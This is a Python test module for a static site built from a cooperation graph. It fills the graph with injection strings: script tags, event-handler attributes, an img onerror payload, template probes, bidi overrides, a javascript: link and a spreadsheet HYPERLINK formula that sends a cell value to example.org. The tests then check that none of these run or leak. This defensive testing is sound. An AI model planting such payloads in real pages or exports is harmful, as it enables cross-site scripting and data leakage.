"""Whatever the facts say stands on the pages as text: nothing runs, nothing leads elsewhere, nothing turns round."""

import re
from html import unescape
from pathlib import Path

import feedparser
import html5lib
import pytest
from conftest import SITE_DAY, Seen
from icalendar import Calendar
from playwright.sync_api import Page
from pyoxigraph import Literal, NamedNode, Quad

from graph.ask.text import visible
from graph.site import build
from graph.store.folder import open_store, replace
from ontology import coop, dct, foaf, rdfs, schema, skos

pytestmark = pytest.mark.xdist_group("hostile")  # what they share is made once

ontology = NamedNode("https://w3id.org/vnjp-ties/graph/ontology")
SCRIPT = "</script><script>window.hacked = 1</script>"
HANDLER = '" onmouseover="window.hacked = 1" \' onfocus=\'window.hacked = 1\' x="'
IMAGE = "<img src=x onerror=window.hacked=1>"
TEMPLATE = "{{ 7 * 7 }}${7*7}<%= 7 * 7 %>"
TURNED = "Sakai\u202e gnN aD\u2066"
LONG = "Nagasaki" * 1250
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Sakai")'
ADDRESS = "javascript:window.hacked=1"

TEXTS = (SCRIPT, HANDLER, IMAGE, TEMPLATE, TURNED, FORMULA, "]]>", "<!--", "<textarea>", "&lt;b&gt;")
PREDICATES = (rdfs.label, skos.note, dct.title, dct.publisher, coop.designation, coop.implementer, coop.counterpart,
              coop.legalBasis, coop.funds, coop.applicants, coop.acronym, coop.secretariat)  # fmt: skip
KINDS = (
    "index.html", "places.html", "ties.html", "projects.html", "networks.html", "programmes.html", "sources.html",
    "calendar.html", "news.html", "gaps.html", "question/partners-of.html", "about.html", "place/vn/da-nang.html",
    "place/jp/osaka/sakai.html",
)  # fmt: skip


@pytest.fixture(scope="module")
def graph(lean_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A graph of real facts, each text of it in turn replaced by one of those that do harm where they are believed."""
    folder, quads, texts = tmp_path_factory.mktemp("hostile"), [], []
    for quad in open_store(lean_folder):
        if quad.predicate in PREDICATES and isinstance(quad.object, Literal) and quad.graph_name != ontology:
            texts.append(quad)
        elif quad.predicate in {schema.url, foaf.homepage}:
            quads.append(Quad(quad.subject, quad.predicate, NamedNode(ADDRESS), quad.graph_name))
        else:
            quads.append(quad)
    for at, quad in enumerate(sorted(texts, key=str), 1):
        text = LONG if at % 89 == 0 else TEXTS[at % len(TEXTS)]
        value = Literal(text, language=quad.object.language)  # type: ignore[union-attr]
        quads.append(Quad(quad.subject, quad.predicate, value, quad.graph_name))
    replace(folder, lambda made, _: made.bulk_extend(quads))
    return folder


@pytest.fixture(scope="module")
def harmful(graph: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of such a graph, in English."""
    return build(graph, tmp_path_factory.mktemp("harmful") / "site", SITE_DAY, languages=["en"]).parent


def test_every_such_text_is_in_the_graph(graph: Path) -> None:
    said = {quad.object.value for quad in open_store(graph).quads_for_pattern(None, rdfs.label, None, None)}  # type: ignore[union-attr]
    assert {*TEXTS, LONG} <= said


@pytest.mark.parametrize("kind", KINDS)
def test_nothing_runs(harmful: Path, page: Page, seen: Seen, kind: str) -> None:
    page.on("dialog", lambda dialog: seen.complaints.append(dialog.message))
    page.goto(f"file://{harmful}/en/{kind}")
    page.mouse.move(300, 300)
    for link in page.locator("main a").all()[:5]:
        link.dispatch_event("mouseover")
    assert page.evaluate("window.hacked") is None
    assert not seen.complaints
    assert all(one.startswith((f"file://{harmful}/", "data:")) for one in seen.requests)
    handlers = page.evaluate(
        "[...document.querySelectorAll('*')].filter((one) => [...one.attributes].some("
        "(attribute) => attribute.name.startsWith('on'))).length"
    )
    assert handlers == 0
    assert page.evaluate("[...document.links].every((link) => /^(https?|file):/.test(link.href))")
    assert page.locator("main img").count() == 0


def test_it_stands_there_as_text(harmful: Path) -> None:
    said = " ".join(_text(harmful / "en" / kind) for kind in KINDS if kind not in {"places.html", "gaps.html"})
    for text in (*TEXTS, LONG):
        assert visible(text) in said, text[:60]


def _text(page: Path) -> str:
    """Return the text of a page as a parser of its own reads it."""
    body = html5lib.parse(page.read_text("utf-8"), namespaceHTMLElements=False).find("body")
    return "".join(body.itertext())


@pytest.mark.parametrize("kind", KINDS)
def test_no_sign_turns_the_writing_round(harmful: Path, kind: str) -> None:
    text = (harmful / "en" / kind).read_text("utf-8")
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", text)
    assert not re.search(r"\\u20(2[a-e]|6[6-9])", text)


def test_search_shows_it_as_text_too(harmful: Path, page: Page, seen: Seen) -> None:
    page.goto(f"file://{harmful}/en/about.html")
    field = page.get_by_role("combobox").first
    for typed in ("script", "onmouseover", "hyperlink", "nagasaki"):
        field.fill(typed)
        page.wait_for_timeout(150)
    assert page.evaluate("window.hacked") is None
    assert not seen.complaints


def test_calendars_and_feeds_hold_it_as_text_too(harmful: Path) -> None:
    said = ""
    for path in harmful.rglob("*.ics"):
        read = Calendar.from_ical(path.read_bytes())
        assert {one.name for one in read.walk()} <= {"VCALENDAR", "VEVENT"}, path
        said += "".join(str(one["description"]) for one in read.events)
    for path in harmful.rglob("*.atom"):
        feed = feedparser.parse(path.read_bytes())
        assert not feed.bozo, path
        assert all(
            link.href.startswith(("http", ".", "ties", "projects", "networks")) for link in feed.entries[0].links
        )
        said += "".join(unescape(one.title + one.summary) for one in feed.entries)
    for text in (SCRIPT, HANDLER, TURNED, FORMULA):
        assert visible(text) in said


@pytest.mark.parametrize("kind", ["projects.html", "ties.html"])
def test_no_download_is_a_formula(harmful: Path, page: Page, kind: str) -> None:
    page.goto(f"file://{harmful}/en/{kind}")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download what is shown (CSV)").first.click()
    text = Path(download.value.path()).read_text("utf-8-sig")
    assert "HYPERLINK" in text
    assert not re.search(r'(^|,)"?[=+@\t\r-](?![\d.]+("|,|$))', text, re.MULTILINE)


def test_no_file_for_download_is_a_formula(harmful: Path) -> None:
    for path in harmful.rglob("*.csv"):
        assert not re.search(r'(^|,)"?[=+@\t\r]', path.read_text("utf-8-sig"), re.MULTILINE), path.name
